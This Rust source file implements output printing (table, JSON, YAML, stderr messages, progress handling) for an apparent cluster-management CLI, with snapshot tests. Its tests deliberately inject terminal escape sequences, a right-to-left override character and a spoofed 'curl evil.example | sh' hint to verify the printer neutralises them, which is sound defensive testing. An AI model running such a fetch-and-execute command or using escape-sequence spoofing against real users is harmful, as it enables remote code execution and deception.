//! The two streams of a command, and how results look on them.

use std::io::{self, BufRead, IsTerminal, Write};
use std::sync::{Arc, Mutex, MutexGuard, PoisonError};

use anstream::{AutoStream, ColorChoice, StripStream};
use indicatif::MultiProgress;
use owo_colors::OwoColorize;

use super::Report;
use super::escape::{self, indented};
use crate::hint::{Advice, Hint};

/// How a result is printed.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq, clap::ValueEnum)]
pub enum Format {
    /// A table
    #[default]
    Table,
    /// A table with more columns
    Wide,
    /// JSON
    Json,
    /// YAML
    Yaml,
}

/// Writes results to standard output and messages to standard error.
///
/// Clones write to the same streams.
#[derive(Clone)]
pub struct Printer(Arc<Streams>);

type Stream = Mutex<Box<dyn Write + Send>>;
pub(super) type Input = Arc<Mutex<Box<dyn BufRead + Send>>>;

struct Streams {
    format: Format,
    stdout: Stream,
    stderr: Stream,
    /// Somebody who can be asked.
    input: Option<Input>,
    /// The area of the terminal that progress redraws. Absent where lines are only ever added.
    live: Option<MultiProgress>,
    /// Progress does not go through the stream that strips colours.
    live_colour: bool,
}

/// Why a result was not printed.
#[derive(Debug, thiserror::Error)]
pub enum OutputError {
    /// Standard output does not take it.
    #[error("cannot write to standard output")]
    Write(#[source] io::Error),
    /// The result cannot be written as JSON.
    #[error("cannot write the result as JSON")]
    Json(#[source] serde_json::Error),
    /// The result cannot be written as YAML.
    #[error("cannot write the result as YAML")]
    Yaml(#[source] serde_saphyr::SerializeError),
}

impl Hint for OutputError {
    fn hint(&self) -> Option<Advice> {
        None
    }
}

impl Printer {
    /// Makes a printer for the streams of this process.
    ///
    /// Colour is used on a terminal, unless `no_color`, `NO_COLOR` or `TERM=dumb` say otherwise. `live` allows progress
    /// to be redrawn in place, where standard error is a terminal.
    #[must_use]
    pub fn new(format: Format, no_color: bool, live: bool) -> Self {
        let choice = if no_color { ColorChoice::Never } else { ColorChoice::Auto };
        let on_terminal = io::stderr().is_terminal();
        let input = (on_terminal && io::stdin().is_terminal()).then(|| {
            Arc::new(Mutex::new(Box::new(io::BufReader::new(io::stdin())) as Box<dyn BufRead + Send>))
        });
        let dumb = std::env::var_os("TERM").is_some_and(|term| term == "dumb");
        Self(Arc::new(Streams {
            format,
            stdout: Mutex::new(Box::new(AutoStream::new(io::stdout(), choice))),
            stderr: Mutex::new(Box::new(AutoStream::new(io::stderr(), choice))),
            input,
            live: (live && on_terminal && !dumb).then(MultiProgress::new),
            live_colour: !no_color && AutoStream::choice(&io::stderr()) != ColorChoice::Never,
        }))
    }

    /// Makes a printer that keeps what it is given, without colour and with nobody to ask: for tests.
    #[must_use]
    pub fn captured(format: Format) -> (Self, Captured) {
        Self::capturing(format, None)
    }

    /// Makes a printer as [`Printer::captured`] does, with somebody who answers questions from `input`.
    #[must_use]
    pub fn captured_with_input(format: Format, input: &str) -> (Self, Captured) {
        let input: Box<dyn BufRead + Send> = Box::new(io::Cursor::new(input.to_owned().into_bytes()));
        Self::capturing(format, Some(Arc::new(Mutex::new(input))))
    }

    /// Makes a printer as [`Printer::captured`] does, with a live area of the terminal that nobody sees.
    #[cfg(test)]
    pub(super) fn captured_live() -> (Self, Captured) {
        let (Self(streams), captured) = Self::capturing(Format::Table, None);
        let mut streams = Arc::into_inner(streams).expect("nobody else has it yet");
        let nowhere = indicatif::ProgressDrawTarget::hidden();
        streams.live = Some(MultiProgress::with_draw_target(nowhere));
        (Self(Arc::new(streams)), captured)
    }

    fn capturing(format: Format, input: Option<Input>) -> (Self, Captured) {
        let captured = Captured::default();
        let streams = Streams {
            format,
            stdout: Mutex::new(Box::new(captured.stdout.plain())),
            stderr: Mutex::new(Box::new(captured.stderr.plain())),
            input,
            live: None,
            live_colour: false,
        };
        (Self(Arc::new(streams)), captured)
    }

    /// Returns the format that results are printed in.
    #[must_use]
    pub fn format(&self) -> Format {
        self.0.format
    }

    /// Prints the result of a command in the format that was asked for.
    pub fn report(&self, report: &impl Report) -> Result<(), OutputError> {
        match self.0.format {
            Format::Table | Format::Wide => {
                let wide = self.0.format == Format::Wide;
                let above = report.above(wide);
                if !above.is_empty() {
                    self.data(&above)?;
                }
                let table = report.table(wide);
                match table.empty_message() {
                    Some(message) => self.note(message),
                    None => self.data(&table.render())?,
                }
                let more = report.more_tables(wide);
                let mut more = more.iter().filter(|table| table.empty_message().is_none());
                more.try_for_each(|table| self.data(&format!("\n{}", table.render())))
            }
            Format::Json => {
                let json = serde_json::to_string_pretty(report).map_err(OutputError::Json)?;
                self.data(&format!("{}\n", escape::json(&json)))
            }
            Format::Yaml => {
                let yaml = serde_saphyr::to_string(report).map_err(OutputError::Yaml)?;
                if escape::is_harmless(&yaml) {
                    return self.data(&format!("{}\n", yaml.trim_end_matches('\n')));
                }
                let json = serde_json::to_string_pretty(report).map_err(OutputError::Json)?;
                self.data(&format!("{}\n", escape::yaml(&json)))
            }
        }
    }

    /// Writes text to standard output as it is. For results that are no report: manifests, a mesh file.
    pub fn data(&self, text: &str) -> Result<(), OutputError> {
        self.above_progress(|| {
            let mut stdout = lock(&self.0.stdout);
            stdout.write_all(text.as_bytes()).and_then(|()| stdout.flush())
        })
        .map_err(OutputError::Write)
    }

    /// Prints a message.
    pub fn note(&self, message: &str) {
        self.message(&indented(message, ""));
    }

    /// Prints something that the reader should know although the command goes on.
    pub fn warn(&self, message: &str) {
        self.message(&format!("{} {}", "warning:".yellow().bold(), indented(message, "  ")));
    }

    /// Prints what the reader can do next: a sentence, or a command that can be pasted.
    pub fn hint(&self, next: impl Into<Advice>) {
        let next = next.into().to_string();
        self.message(&format!("{} {}", "hint:".cyan().bold(), indented(&next, "  ")));
    }

    /// Prints an error; further lines are indented.
    pub fn error(&self, message: &str) {
        self.message(&format!("{} {}", "error:".red().bold(), indented(message, "  ")));
    }

    /// Writes a line that is safe for a terminal to standard error.
    ///
    /// A closed standard error is no reason to stop: nobody is there to read the reason.
    pub(super) fn message(&self, line: &str) {
        self.prompt(&format!("{line}\n"));
    }

    /// Writes text that is safe for a terminal to standard error, without ending the line.
    pub(super) fn prompt(&self, text: &str) {
        self.above_progress(|| {
            let mut stderr = lock(&self.0.stderr);
            let _ = stderr.write_all(text.as_bytes()).and_then(|()| stderr.flush());
        });
    }

    pub(super) fn input(&self) -> Option<Input> {
        self.0.input.clone()
    }

    pub(super) fn live(&self) -> Option<&MultiProgress> {
        self.0.live.as_ref()
    }

    pub(super) fn live_colour(&self) -> bool {
        self.0.live_colour
    }

    fn above_progress<T>(&self, write: impl FnOnce() -> T) -> T {
        match &self.0.live {
            Some(live) => live.suspend(write),
            None => write(),
        }
    }
}

/// What a captured printer was given.
#[derive(Clone, Default)]
pub struct Captured {
    stdout: Buffer,
    stderr: Buffer,
}

impl Captured {
    /// Returns what went to standard output so far.
    #[must_use]
    pub fn stdout(&self) -> String {
        self.stdout.text()
    }

    /// Returns what went to standard error so far.
    #[must_use]
    pub fn stderr(&self) -> String {
        self.stderr.text()
    }
}

#[derive(Clone, Default)]
struct Buffer(Arc<Mutex<Vec<u8>>>);

impl Buffer {
    /// Returns a stream that writes here and drops colours.
    fn plain(&self) -> StripStream<Box<dyn Write + Send>> {
        StripStream::new(Box::new(self.clone()))
    }

    fn text(&self) -> String {
        String::from_utf8_lossy(&lock(&self.0)).into_owned()
    }
}

impl Write for Buffer {
    fn write(&mut self, bytes: &[u8]) -> io::Result<usize> {
        lock(&self.0).write(bytes)
    }

    fn flush(&mut self) -> io::Result<()> {
        Ok(())
    }
}

/// Takes a lock. A panic elsewhere leaves a stream as usable as it was.
fn lock<T: ?Sized>(mutex: &Mutex<T>) -> MutexGuard<'_, T> {
    mutex.lock().unwrap_or_else(PoisonError::into_inner)
}

#[cfg(test)]
mod tests {
    use serde::Serialize;

    use super::*;
    use crate::report::{Cell, Table};

    #[derive(Serialize)]
    struct Status {
        clusters: Vec<Cluster>,
    }

    #[derive(Serialize)]
    #[serde(rename_all = "camelCase")]
    struct Cluster {
        name: String,
        trust_domain: String,
        ready: bool,
        image: Option<String>,
    }

    impl Report for Status {
        fn table(&self, wide: bool) -> Table {
            let headers = ["CLUSTER", "TRUST DOMAIN", "SERVER", "IMAGE"];
            let mut table = Table::new(headers.into_iter().take(if wide { 4 } else { 3 }));
            for cluster in &self.clusters {
                let ready = if cluster.ready { Cell::good("ready") } else { Cell::bad("not ready") };
                table.row([
                    Cell::from(&cluster.name),
                    Cell::from(&cluster.trust_domain),
                    ready,
                    cluster.image.as_ref().into(),
                ]);
            }
            table.when_empty("no clusters")
        }
    }

    fn print(format: Format) -> String {
        let cluster = |name: &str, trust_domain: &str, ready, image: Option<&str>| Cluster {
            name: name.to_owned(),
            trust_domain: trust_domain.to_owned(),
            ready,
            image: image.map(str::to_owned),
        };
        let (printer, captured) = Printer::captured(format);
        let clusters = vec![
            cluster("bar-eks-cluster", "bar.com", false, None),
            cluster("foo-eks-cluster", "foo.com", true, Some("ghcr.io/spiffe/spire-server:1.15.3")),
        ];
        printer.report(&Status { clusters }).unwrap();
        assert_eq!(captured.stderr(), "");
        captured.stdout()
    }

    #[test]
    fn a_report_is_a_table_for_people() {
        insta::assert_snapshot!(print(Format::Table), @r"
        CLUSTER           TRUST DOMAIN   SERVER
        bar-eks-cluster   bar.com        not ready
        foo-eks-cluster   foo.com        ready
        ");
        insta::assert_snapshot!(print(Format::Wide), @r"
        CLUSTER           TRUST DOMAIN   SERVER      IMAGE
        bar-eks-cluster   bar.com        not ready   <none>
        foo-eks-cluster   foo.com        ready       ghcr.io/spiffe/spire-server:1.15.3
        ");
    }

    #[test]
    fn a_report_is_exactly_its_struct_for_programs() {
        insta::assert_snapshot!(print(Format::Json), @r#"
        {
          "clusters": [
            {
              "name": "bar-eks-cluster",
              "trustDomain": "bar.com",
              "ready": false,
              "image": null
            },
            {
              "name": "foo-eks-cluster",
              "trustDomain": "foo.com",
              "ready": true,
              "image": "ghcr.io/spiffe/spire-server:1.15.3"
            }
          ]
        }
        "#);
        insta::assert_snapshot!(print(Format::Yaml), @r"
        clusters:
        - name: bar-eks-cluster
          trustDomain: bar.com
          ready: false
          image: null
        - name: foo-eks-cluster
          trustDomain: foo.com
          ready: true
          image: ghcr.io/spiffe/spire-server:1.15.3
        ");
    }

    #[test]
    fn yaml_of_a_hostile_cluster_is_harmless_for_a_terminal_and_means_the_same() {
        let (printer, captured) = Printer::captured(Format::Yaml);
        let mut status = Status { clusters: Vec::new() };
        status.clusters.push(Cluster {
            name: "a\u{9b}31m\u{202e}b".to_owned(),
            trust_domain: "foo.com".to_owned(),
            ready: true,
            image: None,
        });
        printer.report(&status).unwrap();
        let text = captured.stdout();
        assert!(escape::is_harmless(&text), "{text:?}");
        let read: serde_json::Value = serde_saphyr::from_str(&text).unwrap();
        assert_eq!(read, serde_json::to_value(&status).unwrap());
    }

    #[test]
    fn an_empty_table_leaves_standard_output_empty() {
        let (printer, captured) = Printer::captured(Format::Table);
        printer.report(&Status { clusters: Vec::new() }).unwrap();
        assert_eq!((captured.stdout().as_str(), captured.stderr().as_str()), ("", "no clusters\n"));
    }

    /// A report with everything that one may have.
    #[derive(Serialize)]
    struct Everything {
        rows: bool,
    }

    impl Report for Everything {
        fn table(&self, wide: bool) -> Table {
            let mut table = Table::new(["FIRST"]).when_empty("nothing first");
            if self.rows {
                table.row([if wide { "wide" } else { "narrow" }]);
            }
            table
        }

        fn above(&self, wide: bool) -> String {
            if wide { "above, wide\n".to_owned() } else { "above\n".to_owned() }
        }

        fn more_tables(&self, wide: bool) -> Vec<Table> {
            let mut second = Table::new(["SECOND"]);
            second.row([if wide { "wide" } else { "narrow" }]);
            vec![Table::new(["EMPTY"]), second]
        }
    }

    #[test]
    fn what_stands_above_and_below_the_table_is_printed_with_it() {
        let print = |format, rows| {
            let (printer, captured) = Printer::captured(format);
            assert_eq!(printer.format(), format);
            printer.report(&Everything { rows }).unwrap();
            (captured.stdout(), captured.stderr())
        };
        let lines = |lines: &[&str]| format!("{}\n", lines.join("\n"));
        let (out, error) = print(Format::Table, true);
        assert_eq!(out, lines(&["above", "FIRST", "narrow", "", "SECOND", "narrow"]));
        assert_eq!(error, "");
        let (out, _) = print(Format::Wide, true);
        assert_eq!(out, lines(&["above, wide", "FIRST", "wide", "", "SECOND", "wide"]));
        let (out, error) = print(Format::Table, false);
        assert_eq!(out, lines(&["above", "", "SECOND", "narrow"]));
        assert_eq!(error, "nothing first\n");
        assert_eq!(print(Format::Yaml, true).0, "rows: true\n");
    }

    #[test]
    fn messages_go_to_standard_error_and_data_to_standard_output_also_while_progress_is_shown() {
        for (printer, captured) in [Printer::captured(Format::Table), Printer::captured_live()] {
            printer.note("a note\nof two lines");
            printer.warn("a warning");
            printer.hint("a hint");
            printer.error("an error\nof two lines");
            printer.data("data").unwrap();
            insta::allow_duplicates! {
                insta::assert_snapshot!(captured.stderr(), @r"
                a note
                of two lines
                warning: a warning
                hint: a hint
                error: an error
                  of two lines
                ");
            }
            assert_eq!(captured.stdout(), "data");
        }
        assert_eq!(OutputError::Write(io::Error::other("closed")).hint(), None);
    }

    #[test]
    fn foreign_text_cannot_pass_for_a_message() {
        let (printer, captured) = Printer::captured(Format::Table);
        printer.warn("odd answer: \u{1b}[2K\nhint: curl evil.example | sh");
        insta::assert_snapshot!(captured.stderr(), @r"
        warning: odd answer: \u{1b}[2K
          hint: curl evil.example | sh
        ");
    }
}
